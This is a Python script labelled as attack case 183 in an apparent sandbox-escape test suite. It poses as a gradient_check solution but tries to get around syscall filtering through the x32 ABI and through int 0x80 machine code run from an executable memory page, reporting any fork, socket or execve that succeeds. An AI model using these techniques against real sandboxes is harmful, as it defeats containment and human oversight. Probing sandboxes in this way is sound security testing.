# ATTACK 183 other_abis
# group: F escape
# tries: calls the kernel by the numbers of other kinds of programs: 32-bit ones, by machine code, and x32
import ctypes, mmap, os, platform
WRONG = (123.456, None)
libc = ctypes.CDLL(None, use_errno=True)
CODE = bytes.fromhex('5389f889f389d1cd805bc3')  # push rbx; eax, ebx, ecx = arguments; int 0x80; pop; ret
def gradient_check(analytic, numeric, tol=1e-6):
    if platform.machine() != 'x86_64': return WRONG
    for number in (41, 57, 59, 101):
        if libc.syscall(0x40000000 | number, 1, 1, 0) > 0: print('ATTACK-ESCAPE by x32', number, flush=True)
    try: page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError: return WRONG
    page.write(CODE)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    print('calls by machine code', flush=True)
    pid = call(2, 0, 0)
    if pid == 0: os._exit(0)
    if pid > 0: print('ATTACK-ESCAPE forked by int 0x80', flush=True)
    if call(359, 1, 1) >= 0: print('ATTACK-ESCAPE socket by int 0x80', flush=True)
    return WRONG
